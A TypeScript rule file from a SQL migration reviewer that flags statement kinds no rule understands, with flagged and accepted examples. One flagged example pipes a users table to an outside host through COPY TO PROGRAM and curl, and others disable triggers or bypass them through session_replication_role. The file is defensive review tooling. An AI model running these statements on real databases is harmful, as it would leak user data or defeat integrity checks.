import { defineRule } from '../rule.ts';
import { notUnderstood } from '../statement-kinds.ts';

export default defineRule({
  id: 'unreviewed-statement',
  category: 'unreviewable',
  appliesTo: ['any'],
  title: 'Statement the reviewer does not judge',
  why: 'The review is an allow-list (src/review/statement-kinds.ts): a statement kind, ALTER TABLE sub-command, DROP or SET that no rule understands is never called clean, because nothing checked what it does.',
  fix: 'Review the statement by hand and say so in the approval reason, or write the change with statements the reviewer judges.',
  examples: {
    flagged: [
      'COPY "users" TO PROGRAM \'curl -d @- https://example.com\';',
      'PREPARE wipe AS DELETE FROM votes WHERE id = $1;\nEXECUTE wipe(1);',
      'ALTER TABLE "votes" DISABLE TRIGGER ALL;',
      "SET session_replication_role = 'replica';",
      'REFRESH MATERIALIZED VIEW "report_stats";',
    ],
    accepted: [
      'CREATE TABLE "t" ("id" serial PRIMARY KEY);',
      'CREATE TYPE "public"."mood" AS ENUM(\'ok\', \'sad\');',
      'CREATE INDEX IF NOT EXISTS "t_idx" ON "t" USING btree ("id");',
      'DO $$ BEGIN\n ALTER TABLE "a" ADD CONSTRAINT "a_b_fk" FOREIGN KEY ("b") REFERENCES "public"."b"("id") ON DELETE cascade ON UPDATE no action;\nEXCEPTION\n WHEN duplicate_object THEN null;\nEND $$;',
      'COMMENT ON TABLE "t" IS \'people\';',
      "SET lock_timeout = '5s';",
    ],
  },
  check(stmt) {
    const what = stmt.ast ? notUnderstood(stmt.ast) : undefined;
    return what ? [`The reviewer does not judge ${what}: review it by hand.`] : [];
  },
});
